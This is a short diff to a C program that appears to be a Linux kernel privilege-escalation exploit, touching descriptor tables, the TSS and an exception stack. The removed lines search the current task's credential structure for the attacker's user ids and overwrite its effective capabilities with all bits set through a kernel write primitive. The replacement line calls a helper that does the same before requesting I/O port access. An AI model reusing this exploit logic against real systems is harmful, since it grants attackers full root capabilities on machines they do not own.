@@ -41,9 +41,6 @@
 #define GDT_TSS		(8 * 8)
 #define BASE_LOW	0xff0000ffffff0000UL
 
-/* struct cred has its capabilities behind eight ids. */
-#define CRED_SIZE	128
-#define CRED_EFFECTIVE	56
 #define SOME_PORT	0x80
 
 /* An exception frame: ip, cs, flags, sp, ss; a stack is aligned to 16 bytes. */
@@ -167,13 +164,7 @@ static enum outcome aim_stack(pid_t pid, uint64_t tss, uint64_t table)
 /* Each return to user space may then load the TSS again, to have its limit. */
 static bool take_ports(void)
 {
-	uint64_t ids, two = ATTACKER_UID | (uint64_t)ATTACKER_UID << 32;
-	struct task task;
-
-	if (ktask(0, &task))
-		return false;
-	ids = find_word(task.cred, CRED_SIZE, two);
-	return ids && !kwrite64(ids + CRED_EFFECTIVE, ~0UL) && !ioperm(SOME_PORT, 1, 1);
+	return take_capabilities() && !ioperm(SOME_PORT, 1, 1);
 }
 
 /* On the stack of machine checks, which both halves of isolated tables map. */
